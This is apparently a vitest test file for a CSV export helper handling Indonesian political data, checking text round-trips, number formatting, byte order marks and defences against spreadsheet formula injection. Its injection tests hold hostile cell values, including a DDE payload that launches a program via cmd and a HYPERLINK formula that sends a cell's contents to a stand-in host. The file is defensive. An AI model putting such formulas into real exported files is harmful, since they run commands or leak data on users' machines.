import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { column, csvOf, joined, type Cell } from './csv.ts';

/** What a CSV parser reads of one column with these cells, without its heading. */
function readBack(...cells: Cell[]): string[] {
  const text = csvOf([column('isi', 'Isi.', (cell: Cell) => cell)], cells);
  const rows: string[][] = parse(text, { bom: true, skip_empty_lines: false });
  return rows.slice(1).map(([cell = '']) => cell);
}

test('text comes back as it was, whatever is in it', () => {
  const texts = [
    'Rudy Mas’ud',
    'satu, dua',
    'kata "dikutip"',
    'baris\nlain',
    'titik; koma',
    '27–28 November',
    "Rudy Mas'ud",
  ];
  expect(readBack(...texts)).toEqual(texts);
});

test('figures stay figures, and what is unknown is empty, not 0', () => {
  expect(readBack(0, 209905, 0.5727, null, undefined, true, false)).toEqual([
    '0',
    '209905',
    '0.5727',
    '',
    '',
    'true',
    'false',
  ]);
});

describe('text that a spreadsheet would run', () => {
  test.each([
    '=1+1',
    '=HYPERLINK("http://situs.example?"&A1,"Tekan")',
    "=cmd|'/C calc'!A0",
    '+62 811-5445-110',
    '-2+3',
    '@SUM(1+1)',
    '=1+1";=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
  ])('%s gets an apostrophe in front', (text) => {
    expect(readBack(text)).toEqual([`'${text}`]);
  });

  test.each(['\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\r\n\t =1+1'])('is found behind white space (%j)', (text) => {
    expect(readBack(text)).toEqual(["'=1+1"]);
  });

  test('cannot break out of its cell', () => {
    const rows = readBack('x","=1+1', 'x\r\n=1+1');
    expect(rows).toEqual(['x","=1+1', 'x\r\n=1+1']);
  });
});

test('a file starts with a byte order mark and ends its lines as RFC 4180 says', () => {
  const text = csvOf([column('isi', 'Isi.', (cell: Cell) => cell)], ['satu']);
  expect(text).toBe('\uFEFFisi\r\nsatu\r\n');
});

test('a list stands in one cell; an unknown list is empty', () => {
  expect(joined(['PAN', 'PKS'])).toBe('PAN | PKS');
  expect(joined([])).toBe('');
  expect(joined(undefined)).toBeUndefined();
});
